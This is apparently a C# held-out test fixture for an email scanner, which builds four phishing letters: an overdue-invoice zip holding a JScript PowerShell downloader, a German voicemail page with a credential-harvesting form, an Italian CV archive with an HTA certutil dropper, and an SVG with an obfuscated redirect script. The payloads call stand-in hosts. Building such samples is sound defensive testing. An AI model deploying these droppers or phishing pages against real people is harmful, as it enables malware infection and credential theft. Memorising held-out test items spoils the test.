using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Letters with an attached script or page, each with its lure.</summary>
public sealed class LetterWithAttack : SeventhRound
{
    private static readonly byte[] Script = Dos("""
        var s = new ActiveXObject("WScript.Shell");
        s.Run("powershell -nop -w hidden -c \"iwr http://192.0.2.121/j/inv.exe -OutFile $env:TEMP\\inv.exe; & $env:TEMP\\inv.exe\"", 0);
        """);

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Overdue invoice.eml", Letter("""
            Received: from unknown (HELO smtp.bulk-host.example) (203.0.113.18) by mx.customer.example with SMTP; Mon, 30 Nov 2026 07:12:44 +0000
            From: "Accounts Receivable" <billing@office-supply.example>
            To: accounts@customer.example
            Subject: Overdue invoice INV-20261130 - final notice
            Date: Mon, 30 Nov 2026 07:12:40 +0000
            Message-ID: <20261130071240.1@office-supply.example>
            """,
            ("Content-Type: text/plain; charset=utf-8", Utf8("""
                Dear customer,

                our records show that invoice INV-20261130 over 4,310.00 USD is still unpaid. Please find it attached and settle it today
                to avoid legal steps.

                Kind regards
                Accounts Receivable
                """)),
            ("Content-Type: application/zip; name=\"INV-20261130.zip\"\nContent-Disposition: attachment; filename=\"INV-20261130.zip\"", InertFiles.Zip(("INV-20261130.js", Script))))),
        ("Sprachnachricht.eml", Letter("""
            Received: from vps41.cheap-cloud.example ([198.51.100.141]) by mx.kunde.example with ESMTPS; Fri, 27 Nov 2026 09:01:03 +0100
            Authentication-Results: mx.kunde.example; spf=softfail smtp.mailfrom=cheap-cloud.example; dkim=none; dmarc=fail header.from=kunde.example
            From: "Telefonanlage kunde.example" <noreply@kunde.example>
            Reply-To: <office@cheap-cloud.example>
            To: info@kunde.example
            Subject: =?utf-8?B?TmV1ZSBTcHJhY2huYWNocmljaHQgKDAxOjI0KQ==?=
            Date: Fri, 27 Nov 2026 09:01:00 +0100
            """,
            ("Content-Type: text/html; charset=utf-8", Utf8("<p>Sie haben eine neue Sprachnachricht (01:24) von <b>+49 30 0000 0000</b>.</p><p>Öffnen Sie den Anhang, um sie anzuhören. Die Nachricht wird nach 24 Stunden gelöscht.</p>")),
            ("Content-Type: text/html; name=\"VM_0124.html\"\nContent-Disposition: attachment; filename=\"VM_0124.html\"", Utf8("""
                <html><head><title>Outlook - Sprachnachricht</title></head><body style="font-family:Segoe UI;background:#f3f3f3">
                <div style="width:340px;margin:90px auto;background:#fff;padding:26px"><h3>Microsoft Outlook</h3><p>Ihre Sitzung ist abgelaufen. Melden Sie sich erneut an.</p>
                <form method="post" action="https://vm-player.example/owa/auth.php"><input name="u" value="info@kunde.example"><br><br><input name="p" type="password" placeholder="Kennwort"><br><br><button>Anmelden</button></form></div>
                </body></html>
                """)))),
        ("Candidatura.eml", Letter("""
            From: Giulia Conti <giulia.conti@posta-libera.example>
            To: risorse.umane@azienda.example
            Subject: Candidatura - impiegata amministrativa
            Date: Thu, 26 Nov 2026 16:20:09 +0100
            X-Mailer: PHPMailer 6.9.1
            """,
            ("Content-Type: text/plain; charset=utf-8", Utf8("""
                Gentili Signori,
                in allegato trovate il mio curriculum. Per motivi di privacy l'archivio contiene una pagina protetta, apritela con doppio clic.
                Cordiali saluti
                Giulia Conti
                """)),
            ("Content-Type: application/octet-stream; name=\"Curriculum.zip\"\nContent-Disposition: attachment; filename=\"Curriculum.zip\"", InertFiles.Zip(
                ("Curriculum/foto.jpg", Noise(900, 3)),
                ("Curriculum/Curriculum_Giulia_Conti.pdf.hta", Dos("""
                    <html><head><hta:application showintaskbar="no" windowstate="minimize"/><script language="vbscript">
                    Set s = CreateObject("WScript.Shell")
                    s.Run "cmd /c certutil -urlcache -f http://203.0.113.119/cv.exe %TEMP%\cv.exe & start %TEMP%\cv.exe", 0
                    self.close
                    </script></head></html>
                    """)))))),
        ("RE Project plan.eml", Letter("""
            Received: from mail-out.partner-firm.example (192.0.2.190) by mx.customer.example with ESMTPS id 4a1; Mon, 30 Nov 2026 10:44:01 +0000
            Authentication-Results: mx.customer.example; spf=pass; dkim=pass header.d=partner-firm.example; dmarc=pass
            From: Hannah Berg <h.berg@partner-firm.example>
            To: m.olsen@customer.example
            In-Reply-To: <5c01@customer.example>
            References: <5c01@customer.example>
            Subject: RE: Project plan Q1
            Date: Mon, 30 Nov 2026 10:43:58 +0000
            """,
            ("Content-Type: text/html; charset=utf-8", Utf8("""
                <p>Hi Martin,</p><p>sorry for the delay, the plan with my remarks is attached. It opens best in a browser.</p><p>Hannah</p>
                <blockquote style="border-left:1px solid #ccc;padding-left:8px">On 27 Nov Martin Olsen wrote:<br>Could you have a look at the plan before Monday?</blockquote>
                """)),
            ("Content-Type: message/rfc822\nContent-Disposition: attachment; filename*0*=utf-8''Project%20; filename*1*=plan.eml", Letter("""
                From: Hannah Berg <h.berg@partner-firm.example>
                To: m.olsen@customer.example
                Subject: Project plan
                Date: Mon, 30 Nov 2026 10:40:00 +0000
                """,
                ("Content-Type: image/svg+xml\nContent-Disposition: attachment; filename*0*=utf-8''Project%20plan; filename*1*=%20Q1.s; filename*2*=vg", Utf8(Fill("""
                    <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 300"><rect width="600" height="300" fill="#fafafa"/>
                    <rect x="20" y="40" width="220" height="18" fill="#69c"/><rect x="120" y="80" width="260" height="18" fill="#9c6"/><text x="20" y="24">Plan Q1 (loading the detailed view)</text>
                    <script>setTimeout(function(){var q=[@@1],s='';for(var i=0;i!=q.length;i++)s+=String.fromCharCode(q[i]/2-9);self['top']['loc'+'ation']=s;},1200)</script></svg>
                    """, string.Join(',', "https://plan-view.example/s?e=bS5vbHNlbkBjdXN0b21lci5leGFtcGxl".Select(letter => (letter + 9) * 2))))))))),
    ];
}
